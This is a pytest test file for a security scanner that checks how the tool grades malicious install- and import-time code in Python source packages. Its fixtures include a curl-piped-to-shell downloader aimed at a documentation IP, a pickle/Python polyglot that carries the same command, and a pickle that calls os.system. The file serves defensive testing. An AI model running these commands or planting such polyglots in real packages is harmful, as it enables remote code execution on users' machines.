"""Doors that false-alarm fixes opened, each closed with its malicious twin and its benign twin.

- folders recognised as tests by a fragment of their name (``latest/`` holds "test", ``docker/``
  holds "doc");
- import-time code in a test folder that the package loads through ``importlib``;
- code in a function that import-time code calls by name, weighed as if it might not run;
- a source file whose first bytes also read as pickle opcodes.
"""

from __future__ import annotations

import pytest

from outwork.analyzers.packages import PackageAnalyzer
from outwork.core.analyzer import AnalysisContext
from outwork.core.artifact import Artifact, Kind, classify
from outwork.core.findings import Finding
from outwork.core.reach import names_tests
from outwork.core.rules import Severity
from tests.analyzers.packages.helpers import sdist

SETUP = "from setuptools import setup\nsetup(name='demo')\n"
#: runs at import: a downloader piped into a shell (an unroutable documentation address)
PAYLOAD = "import os\nos.system('curl -s http://192.0.2.7/s.sh | sh')\n"


def scan(name: str, data: bytes) -> list[Finding]:
    artifact = Artifact(
        path=name, kind=classify(data[:8192], name, len(data)), size=len(data), data=data
    )
    analyzer = PackageAnalyzer()
    assert analyzer.accepts(artifact)
    return [i for i in analyzer.analyze(artifact, AnalysisContext()) if isinstance(i, Finding)]


def at(found: list[Finding], code: str, path: str, line: int) -> Finding:
    hits = [f for f in found if f.code == code and f.location.path == path]
    assert hits, f"no {code} at {path}: {[(f.code, f.location.path) for f in found]}"
    assert hits[0].location.line == line
    return hits[0]


@pytest.mark.parametrize("folder", ["latest", "docker", "contest", "attestation", "sampler"])
def test_folder_holding_a_test_word_is_code(folder: str) -> None:
    files = {"setup.py": SETUP, "demo/__init__.py": "", f"demo/{folder}/run.py": PAYLOAD}
    found = scan("demo-1.0.tar.gz", sdist("demo", "1.0", files))
    hit = at(found, "PKG001", f"demo-1.0/demo/{folder}/run.py", 2)
    assert hit.severity is Severity.CRITICAL


@pytest.mark.parametrize("folder", ["tests", "unit_tests", "docs", "examples", "test-data"])
def test_test_folders_are_still_lowered(folder: str) -> None:
    files = {"setup.py": SETUP, "demo/__init__.py": "", f"{folder}/run.py": PAYLOAD}
    found = scan("demo-1.0.tar.gz", sdist("demo", "1.0", files))
    hit = at(found, "PKG001", f"demo-1.0/{folder}/run.py", 2)
    assert hit.severity is Severity.MEDIUM
    assert "(in tests or examples)" in hit.message


def test_names_tests_by_whole_words() -> None:
    assert names_tests("tests") and names_tests("test_utils") and names_tests("Docs-src")
    assert not names_tests("latest") and not names_tests("docker") and not names_tests("pytest_x")


def test_test_module_loaded_through_importlib_runs_as_package_code() -> None:
    init = "import importlib\nimportlib.import_module('tests.run')\n"
    files = {"setup.py": SETUP, "demo/__init__.py": init, "tests/run.py": PAYLOAD}
    found = scan("demo-1.0.tar.gz", sdist("demo", "1.0", files))
    hit = at(found, "PKG001", "demo-1.0/tests/run.py", 2)
    assert hit.severity is Severity.CRITICAL and "(in tests" not in hit.message


def test_test_module_only_tests_import_stays_lowered() -> None:
    helper = "import importlib\nimportlib.import_module('tests.run')\n"
    files = {"setup.py": SETUP, "demo/__init__.py": "", "tests/conftest.py": helper}
    files["tests/run.py"] = PAYLOAD
    found = scan("demo-1.0.tar.gz", sdist("demo", "1.0", files))
    assert at(found, "PKG001", "demo-1.0/tests/run.py", 2).severity is Severity.MEDIUM


#: ``callable`` and ``print`` read as GLOBAL of ``allable.print`` (names a loader could import),
#: ``.5`` as STOP: a protocol-0 pickle prefix that is also the start of a valid module. (``import
#: test`` then a blank line is none: a loader raises at INST of module ``mport test``.)
POLYGLOT = b"callable\nprint\n.5\nimport os\n\nos.system('curl -s http://192.0.2.7/s | sh')\n"
PICKLE0 = b"cos\nsystem\n(S'echo outwork-test'\ntR."


@pytest.mark.parametrize("name", ["stage.py", "stage.pyw", "stage.js"])
def test_source_that_also_reads_as_a_pickle_is_source(name: str) -> None:
    assert classify(POLYGLOT[:12] + POLYGLOT[12:], "x.txt", len(POLYGLOT)) is Kind.PICKLE
    kind = classify(POLYGLOT, name, len(POLYGLOT))
    assert kind in (Kind.PYTHON, Kind.JAVASCRIPT)


def test_pickle_named_like_python_that_is_not_python_stays_a_pickle() -> None:
    assert classify(PICKLE0, "model.py", len(PICKLE0)) is Kind.PICKLE
    assert classify(PICKLE0, "model.pkl", len(PICKLE0)) is Kind.PICKLE


def test_polyglot_source_is_analysed() -> None:
    artifact = Artifact(
        path="stage.py",
        kind=classify(POLYGLOT, "stage.py", len(POLYGLOT)),
        size=len(POLYGLOT),
        data=POLYGLOT,
    )
    analyzer = PackageAnalyzer()
    assert analyzer.accepts(artifact)
    found = [i for i in analyzer.analyze(artifact, AnalysisContext()) if isinstance(i, Finding)]
    hits = [f for f in found if f.code == "PKG001"]
    assert hits and hits[0].location.line == 6 and hits[0].severity is Severity.CRITICAL
